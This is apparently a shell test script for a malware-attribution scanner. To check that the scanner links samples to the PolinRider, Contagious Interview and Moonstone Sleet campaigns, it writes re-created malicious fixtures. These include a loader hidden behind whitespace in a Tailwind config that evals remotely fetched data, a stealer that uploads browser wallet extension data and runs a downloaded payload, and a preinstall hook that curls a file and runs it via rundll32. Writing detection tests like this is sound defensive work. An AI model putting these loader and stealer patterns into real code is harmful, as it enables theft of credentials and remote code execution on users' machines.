# link_test.sh - whose methods: inert re-creations, written here, of what is published of three campaigns.
. "$(dirname "$0")/lib.sh"

# value KEY: of the first attribution of the report in $tmp/out (a line of JSON)
first() { python3 -c 'import json,sys; a=json.loads(open(sys.argv[1]).readline())["attribution"]; print(a[0][sys.argv[2]] if a else "none")' "$tmp/out" "$1"; }
likeness() { # NAME CAMPAIGN LEVEL: of the last command
    got="$(first campaign) $(first level)"
    check "$1" test "$got" = "$2 $3"
    [ "$got" = "$2 $3" ] || echo "#   got: $got"
}

# ---- PolinRider-like: a build tag and a loader behind blanks at the end of a build configuration
mkdir -p "$tmp/rider"
python3 - "$tmp/rider/tailwind.config.js" <<'PY'
import sys
tag = "glo" + "bal['!']='7-123-4';" + "glo" + "bal.r=require;if(typeof module==='object'){}"
ask = ("require('https').get('https://chain.example.invalid/v1/accounts/T0/transactions?only_confirmed=true&limit=1',"
       "a=>{let t='';a.on('data',d=>{t+=d});a.on('end',()=>{eval(JSON.parse(t).data)})});")
open(sys.argv[1], "w").write("module.exports = { content: [] };" + " " * 300 + tag + ask + "\n")
PY
expect 'a tag and a loader behind blanks' 1 ratter scan --format jsonl "$tmp/rider"
likeness 'resemble PolinRider' polinrider strong
check 'with evidence of three families' python3 -c 'import json,sys
b=json.loads(open(sys.argv[1]).readline())["attribution"][0]["because"]
assert {"F1","F2","F3"} <= {t.split()[0] for t in b}, b' "$tmp/out"
expect 'the same as text' 1 ratter scan "$tmp/rider"
holds 'has the line' out '^  - PolinRider \(strong\)'
holds 'claims no more than the evidence' out 'code alone'
expect 'and as a page' 1 ratter scan --format html "$tmp/rider"
holds 'has the section' out 'Whose methods'

# ---- BeaverTail-like: the servers' paths and the upload form
mkdir -p "$tmp/tail/server/middlewares/helpers"
cat >"$tmp/tail/server/middlewares/helpers/error.js" <<'JS'
const request = require('request'), fs = require('fs'), os = require('os'), path = require('path');
const { exec } = require('child_process');
const base = 'http://192.0.2.7:1224', ids = ['nkbihfbeog', 'ejbalbakop', 'fhbohimael', 'hnfanknocf', 'ibnejdfjmm'];
const files = ids.map(id => path.join(os.homedir(), '.config/google-chrome/Default/Local Extension Settings', id));
request.post({ url: base + '/uploads', formData: { type: '1', hid: '2_' + os.hostname(), uts: '3', multi_file: files } });
request.get(base + '/client/1/2', (e, r, body) => {
    fs.writeFileSync(os.homedir() + '/.npl', body);
    exec('python3 ' + os.homedir() + '/.npl');
});
JS
expect 'paths and form of the stealer' 1 ratter scan --format jsonl "$tmp/tail"
likeness 'resemble Contagious Interview, no more: none of its code is here' contagious-interview consistent-with

# ---- Moonstone-like: a script that fetches into a data name and swaps the manifest
mkdir -p "$tmp/moon"
printf '{"name":"moon-like","version":"1.0.0","scripts":{"preinstall":"node more.js"}}\n' >"$tmp/moon/package.json"
printf '{"name":"moon-like","version":"1.0.0"}\n' >"$tmp/moon/pk.json"
cat >"$tmp/moon/more.js" <<'JS'
const fs = require('fs'), os = require('os'), { exec } = require('child_process');
const lines = '@echo off\ncurl -o One.b -L "http://192.0.2.9/a/b.asp?id=12345"\nrename One.b one.db\n' +
    'rundll32 one.db ExportName word 12\ndel one.db\nif exist "pk.json" (\ndel "package.json"\nrename pk.json package.json\n)\n';
if (os.type() === 'Windows_NT')
    fs.writeFile('one.bat', lines, () => exec('one.bat', () => fs.unlink('one.bat', () => {})));
JS
expect 'a fetch, an export, a swap' 1 ratter scan --format jsonl "$tmp/moon"
likeness 'resemble Moonstone Sleet' moonstone-sleet strong

# ---- and what resembles nobody
expect 'a stealer of no campaign' 1 ratter scan --format jsonl "$examples/npm-stealer"
likeness 'is not attributed' none none
expect 'a clean package' 0 ratter scan --format jsonl "$examples/npm-clean"
likeness 'neither' none none
mkdir -p "$tmp/told"
printf '# What we found\nglo''bal[%s!%s]=%s7-123-4%s; typeof module\n' \' \' \' \' >"$tmp/told/README.md"
expect 'a text that tells of it' 0 ratter scan --format jsonl "$tmp/told"
likeness 'is not attributed either' none none

# ---- the profiles themselves
expect 'link --list' 0 ratter link --list
holds 'lists a campaign' out '^moonstone-sleet '
expect 'link --compare' 0 ratter link --compare moonstone-sleet jade-sleet-pairs
holds 'sets trigger beside trigger' out '^trigger  .*one package .*of the first, then of the second'
expect 'an unknown campaign' 2 ratter link --compare moonstone-sleet nobody
holds 'is named' err 'nobody'
expect 'one campaign' 2 ratter link --compare polinrider
expect 'nothing asked' 2 ratter link
expect 'two things at once' 2 ratter link --list --check x
expect 'names with --list' 2 ratter link --list polinrider
expect 'our profiles' 0 ratter link --check "$root/profiles"
mkdir "$tmp/profiles"
printf 'id: bad\ntitle: x\nactor: y\nnames: [a]\nsources: [b]\nmethod: {entry: c}\nalternatives: {other: d}\nfeatures:\n  - id: e\n    family: F9\n    weight: 1\n    says: f\n    match: {rule: g}\n' >"$tmp/profiles/bad.yaml"
expect 'a faulty profile' 1 ratter link --check "$tmp/profiles"
holds 'says file and line' out 'bad\.yaml:9: family is'
holds 'says what it names in vain' out "names no profile: 'other'"
expect 'no such folder' 2 ratter link --check "$tmp/nowhere"
finish
